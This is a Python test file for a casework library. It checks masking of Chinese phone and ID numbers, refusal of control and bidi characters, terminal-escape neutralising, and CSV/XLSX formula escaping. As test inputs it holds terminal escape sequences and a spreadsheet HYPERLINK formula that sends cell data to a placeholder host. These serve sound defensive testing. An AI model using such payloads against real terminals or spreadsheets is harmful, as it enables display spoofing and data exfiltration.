"""The one door for text (:mod:`casework.text`) and the one masking of free text.

The masking is tested with hypothesis against every written form of a mainland mobile, a
landline with its area code, and 18- and 15-digit ID numbers: digits of any script, groups
joined by spaces, hyphens or dots, ``+86``/``0086`` prefixes, inside longer text. The oracle is
independent of the masker: fold every decimal digit of the output to ASCII, drop everything
else, and the number's digits must not be there.
"""

from __future__ import annotations

import datetime as dt
import io
import sys
import unicodedata

import openpyxl
import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from rich.text import Text

import casework
from casework import ValidationError
from casework.personal import find_unmasked, id_check_digit, mask_text
from casework.text import (
    LONG_TEXT_BYTES,
    console,
    csv_cell,
    csv_uncell,
    safe_markup,
    text_problem,
    visible,
    xlsx_append,
)

D = dt.date

# -- numbers and their written forms --------------------------------------------------------


@st.composite
def id18(draw: st.DrawFn) -> str:
    region = draw(st.from_regex(r"\A[1-8][0-9]{5}\Z"))
    born = draw(st.dates(min_value=D(1900, 1, 1), max_value=D(2020, 12, 31)))
    first17 = f"{region}{born:%Y%m%d}{draw(st.integers(0, 999)):03d}"
    return first17 + id_check_digit(first17)


@st.composite
def id15(draw: st.DrawFn) -> str:
    region = draw(st.from_regex(r"\A[1-8][0-9]{5}\Z"))
    born = draw(st.dates(min_value=D(1900, 1, 1), max_value=D(1999, 12, 31)))
    return f"{region}{born:%y%m%d}{draw(st.integers(0, 999)):03d}"


mobiles = st.from_regex(r"\A1[3-9][0-9]{9}\Z")
landlines = st.tuples(
    st.sampled_from(["010", "021", "0358", "0351", "0755"]),
    st.from_regex(r"\A[2-8][0-9]{6,7}\Z"),
)

DIGIT_SETS = [
    "0123456789",
    "０１２３４５６７８９",  # full-width
    "٠١٢٣٤٥٦٧٨٩",  # Arabic-Indic
    "०१२३४५६७८९",  # Devanagari
    "𝟎𝟏𝟐𝟑𝟒𝟓𝟔𝟕𝟖𝟗",  # mathematical bold
]
SEPARATORS = [" ", "-", ".", "\u3000", "\u00a0", "－", "．", " - ", "—"]
PREFIXES = ["+86", "+86 ", "0086", "0086 ", "0086-", "86", "＋８６ "]


def _split(number: str, cuts: list[int]) -> list[str]:
    points = sorted({c for c in cuts if 0 < c < len(number)})
    return [number[a:b] for a, b in zip([0, *points], [*points, len(number)], strict=True)]


@st.composite
def written(draw: st.DrawFn) -> tuple[str, str]:
    """``(digits, as written)``: a personal number in one of the ways people write it."""
    kind = draw(st.sampled_from(["mobile", "landline", "id18", "id15"]))
    prefix = ""
    if kind == "mobile":
        number = draw(mobiles)
        groups = draw(
            st.sampled_from([[number], _split(number, [3, 7]), _split(number, [3]), None])
        ) or _split(number, draw(st.lists(st.integers(1, 10), max_size=3)))
        prefix = draw(st.sampled_from(["", "", *PREFIXES]))
    elif kind == "landline":
        area, local = draw(landlines)
        number = area + local
        groups = draw(st.sampled_from([[number], [area, local], [area, local[:3], local[3:]]]))
        if draw(st.booleans()):
            groups = [f"({area})", *groups[1:]] if len(groups) > 1 else groups
    elif kind == "id18":
        number = draw(id18())
        groups = draw(
            st.sampled_from(
                [
                    [number],
                    _split(number, [6, 14]),
                    _split(number, [6, 10, 14]),
                    _split(number, [4, 8, 12, 16]),
                ]
            )
        )
        if number.endswith("X") and draw(st.booleans()):
            groups[-1] = groups[-1][:-1] + "x"
    else:
        number = draw(id15())
        groups = draw(st.sampled_from([[number], _split(number, [6, 12])]))
    sep = draw(st.sampled_from(SEPARATORS))
    digits = draw(st.sampled_from(DIGIT_SETS))
    table = str.maketrans("0123456789", digits) if len(digits) == 10 else _wide(digits)
    text = (prefix + sep.join(groups)).translate(table)
    return number, text


def _wide(digits: str) -> dict[int, str]:
    chars = list(digits)  # astral digits are one str character each
    return {ord(str(i)): chars[i] for i in range(10)}


def _folded(text: str) -> str:
    """Every decimal digit of ``text`` as ASCII, an X kept, everything else dropped."""
    out = []
    for char in text:
        value = unicodedata.decimal(char, None)
        if value is not None:
            out.append(str(value))
        elif char in "Xx":
            out.append("X")
    return "".join(out)


around = st.text(
    alphabet=st.characters(
        blacklist_categories=("Nd", "No", "Nl", "Cs"), blacklist_characters="Xx＋+"
    ),
    max_size=12,
)


@given(written(), around, around)
@example(("87405120050102146X", "874051 20050102 146X"), "", "A")  # an X followed by a letter
def test_every_written_form_is_masked(form: tuple[str, str], before: str, after: str) -> None:
    number, text = form
    whole = f"{before}{text}{after}"
    masked = mask_text(whole)
    assert number not in _folded(masked), (whole, masked)
    assert "*" in masked
    assert find_unmasked(whole), whole
    assert find_unmasked(masked) == []
    assert mask_text(masked) == masked


@given(st.lists(written(), min_size=2, max_size=4), st.sampled_from(["，", "; ", "、", "\n"]))
def test_several_numbers_in_one_text(forms: list[tuple[str, str]], joint: str) -> None:
    text = "申请人电话" + joint.join(t for _, t in forms) + "。"
    pieces = mask_text(text).removesuffix("。").removeprefix("申请人电话").split(joint)
    assert len(pieces) == len(forms)
    for (number, _), piece in zip(forms, pieces, strict=True):
        assert number not in _folded(piece), (text, mask_text(text))


@pytest.mark.parametrize(
    "text",
    [
        "RC2020-0001",
        "2020-03-02 至 2020-04-01",
        "2020-03-02 2020-04-01",
        "金额 12345.67 元,共 3 件",
        "汾司复〔2020〕1号",
        "第 123456 号",
        "0358-722",
        "7221234",
    ],
)
def test_dates_amounts_and_case_ids_are_left_alone(text: str) -> None:
    assert mask_text(text) == text


def test_the_masked_forms_keep_their_shape() -> None:
    assert mask_text("11010519491231002X") == "110105********002X"
    assert mask_text("电话 +86 138-1234-5678。") == "电话 +86 138-****-5678。"
    assert mask_text("１３８１２３４５６７８") == "１３８****５６７８"
    assert mask_text("110105491231002") == "110105******002"


# -- the door ---------------------------------------------------------------------------------

HOSTILE = {
    "ESC": "x\x1b[2Jy",
    "OSC": "\x1b]0;title\x07",
    "C1 CSI": "a\x9bb",
    "RLO": "abc\u202edef",
    "LRI": "a\u2066b",
    "ZWSP": "张\u200b三",
    "ZWJ": "a\u200db",
    "BOM": "\ufeffa",
    "NUL": "a\x00b",
    "DEL": "a\x7fb",
    "line separator": "a\u2028b",
    "noncharacter": "a\uffffb",
    "vertical tab": "a\x0bb",
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
@pytest.mark.parametrize(
    ("where", "field"),
    [
        ("details", "details.subject"),
        ("party", "parties[0].name"),
        ("note", "note"),
        ("actor", "actor"),
        ("data", "data.outcome"),
    ],
)
def test_the_door_refuses_by_field(name: str, where: str, field: str, petition: None) -> None:
    book = casework.open_book(":memory:")
    bad = HOSTILE[name]
    args: dict[str, object] = {
        "received_on": D(2020, 3, 2),
        "actor": "王科员",
        "details": {"subject": "罚款"},
        "parties": [{"role": "applicant", "name": "张三"}],
        "note": "",
    }
    with pytest.raises(ValidationError) as caught:
        if where == "data":
            case = book.create("petition", **args)  # type: ignore[arg-type]
            book.act(case.id, "accept", on=D(2020, 3, 3), actor="王")
            book.act(case.id, "decide", on=D(2020, 3, 4), actor="王", data={"outcome": bad})
        else:
            if where == "details":
                args["details"] = {"subject": bad}
            elif where == "party":
                args["parties"] = [{"role": "applicant", "name": bad}]
            else:
                args[where] = bad
            book.create("petition", **args)  # type: ignore[arg-type]
    message = str(caught.value)
    assert field in message, message
    assert bad not in message and "\x1b" not in message


def test_the_door_normalises_and_keeps_newlines_in_long_text(petition: None) -> None:
    book = casework.open_book(":memory:")
    case = book.create(
        "petition",
        received_on=D(2020, 3, 2),
        actor="王科员",
        details={"subject": "ＡＢＣ１２３ 罚款"},
        parties=[{"role": "applicant", "name": "Ｚｈａｎｇ"}],
        note="第一行\r\n第二行\t完",
    )
    assert case.details.subject == "ABC123 罚款"
    assert case.parties[0].name == "Zhang"
    assert case.events[0].note == "第一行\n第二行\t完"
    with pytest.raises(ValidationError, match=r"parties\[0\]\.name"):
        book.create(
            "petition",
            received_on=D(2020, 3, 2),
            actor="王科员",
            details={"subject": "x"},
            parties=[{"role": "applicant", "name": "张\n三"}],
        )


def test_length_limits(petition: None) -> None:
    book = casework.open_book(":memory:")
    ok = "字" * (LONG_TEXT_BYTES // 3)
    case = book.create(
        "petition", received_on=D(2020, 3, 2), actor="王", details={"subject": "x"}, note=ok
    )
    assert case.events[0].note == ok
    with pytest.raises(ValidationError, match="note: 最长 64 KiB"):
        book.create(
            "petition",
            received_on=D(2020, 3, 2),
            actor="王",
            details={"subject": "x"},
            note=ok + "字",
        )
    with pytest.raises(ValidationError, match="actor"):
        book.create(
            "petition", received_on=D(2020, 3, 2), actor="王" * 101, details={"subject": "x"}
        )


def test_side_tables_pass_the_door(petition: None) -> None:
    book = casework.open_book(":memory:")
    with pytest.raises(ValidationError, match=r"registry\.name"):
        book.table_put("registry", "a", {"name": "x\u202ey"})
    book.table_put("registry", "b", {"name": "Ａ"})
    assert book.table_get("registry", "b") == {"name": "A"}


def test_every_format_character_is_refused() -> None:
    for code in range(sys.maxunicode + 1):
        char = chr(code)
        category = unicodedata.category(char)
        if category in ("Cc", "Cf", "Cs", "Zl", "Zp") and char not in "\t\n":
            assert text_problem(f"a{char}b", "f") is not None, hex(code)


def test_ordinary_text_passes() -> None:
    for text in ("张三", "O'Brien", "a\tb\nc", "＝ is fine after NFKC", "🙂", "\ue000生僻字"):
        assert text_problem(text, "f") is None, text


# -- on the way out ---------------------------------------------------------------------------


def test_visible_and_the_safe_console() -> None:
    assert visible("a\x1b[2Jb\u202e") == "a\\x1b[2Jb\\u202e"
    out = console(file=io.StringIO(), width=60, color_system="truecolor", force_terminal=True)
    out.print(Text("x\x1b]0;pwned\x07y\x9b2J", style="bold"), "[red]red[/]")
    written_ = out.file.getvalue()  # type: ignore[attr-defined]
    assert "\x1b]0" not in written_ and "\x07" not in written_ and "\x9b" not in written_
    assert "\\x1b]0;pwned" in written_ and "\\x9b2J" in written_
    assert "\x1b[1m" in written_  # rich's own styling is kept
    assert safe_markup("[bold]13812345678\x1b") == "\\[bold]138****5678\\x1b"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_never_start_a_formula(start: str) -> None:
    value = f'{start}HYPERLINK("http://x/?q="&N2,"open")'
    assert csv_cell(value) == "'" + value
    assert csv_uncell(csv_cell(value)) == value
    assert csv_cell("张三") == "张三" and csv_cell(5) == 5


@pytest.mark.parametrize("write_only", [False, True])
def test_xlsx_cells_are_text(write_only: bool, tmp_path: object) -> None:
    workbook = openpyxl.Workbook(write_only=write_only)
    sheet = workbook.create_sheet("s") if write_only else workbook.active
    xlsx_append(sheet, ['=HYPERLINK("http://x","open")', "+1", 3, "a\x1bb", "=1+1"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    loaded = openpyxl.load_workbook(io.BytesIO(buffer.getvalue()))
    cells = next(iter(loaded.worksheets[-1].iter_rows()))
    assert [c.data_type for c in cells] == ["s", "s", "n", "s", "s"]
    assert cells[0].value == '=HYPERLINK("http://x","open")'
    assert cells[3].value == "a\\x1bb"


def test_look_alikes_fold_for_comparison() -> None:
    from casework.text import fold, fold_digits

    assert fold_digits("RC٢٠٢٠-٠٠٠١") == "RC2020-0001"
    assert fold_digits("１２𝟑") == "123"
    assert fold("张\u200b三") == fold("张三") == fold(" 张三\u202e ")
    assert fold("Ｚｈａｎｇ   San") == "Zhang San"
    assert fold("李四١٢") == "李四12"
